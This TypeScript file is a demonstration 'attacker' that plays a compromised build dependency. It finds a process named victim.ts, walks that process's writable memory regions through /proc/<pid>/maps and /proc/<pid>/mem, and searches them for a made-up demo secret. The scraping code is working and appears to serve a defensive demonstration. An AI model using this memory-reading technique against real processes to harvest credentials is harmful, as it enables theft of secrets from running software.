/**
 * The attacker of the demonstration, in the role of a compromised dependency of a build: every few seconds it finds the
 * victim, reads its memory through procfs and searches it for the made-up secret.
 */
import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';
import { setInterval } from 'node:timers/promises';

const PERIOD_MILLIS = 5_000;
const CHUNK_BYTES = 1 << 20;
const SECRET = /MEMWARDEN-DEMO-SECRET-[0-9a-f]{16}/;

function victim(): string | undefined {
  return readdirSync('/proc').find(
    pid => /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('victim.ts'),
  );
}

/** Start and end of the areas that the process can write to. */
function areas(pid: string): [number, number][] {
  return readFileSync(`/proc/${pid}/maps`, 'utf8')
    .split('\n')
    .flatMap(line => {
      const [, start, end] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
      return start === undefined || end === undefined
        ? []
        : [[Number.parseInt(start, 16), Number.parseInt(end, 16)] as [number, number]];
    });
}

function search(pid: string): string | undefined {
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  try {
    const chunk = Buffer.alloc(CHUNK_BYTES);
    for (const [start, end] of areas(pid)) {
      for (let at = start; at < end; at += CHUNK_BYTES) {
        let length: number;
        try {
          length = readSync(memory, chunk, 0, Math.min(CHUNK_BYTES, end - at), at);
        } catch {
          // reserved, but not backed by memory
          continue;
        }
        const found = SECRET.exec(chunk.latin1Slice(0, length));
        if (found !== null) return found[0];
      }
    }
    return undefined;
  } finally {
    closeSync(memory);
  }
}

for await (const _ of setInterval(PERIOD_MILLIS)) {
  const pid = victim();
  if (pid === undefined) {
    console.log('attacker: no victim yet');
    continue;
  }
  try {
    console.log(
      `attacker: pid ${process.pid} read the memory of pid ${pid}: ${search(pid) ?? 'no secret found'}`,
    );
  } catch (error) {
    console.log(`attacker: pid ${process.pid} could not read the memory of pid ${pid}: ${error}`);
  }
}
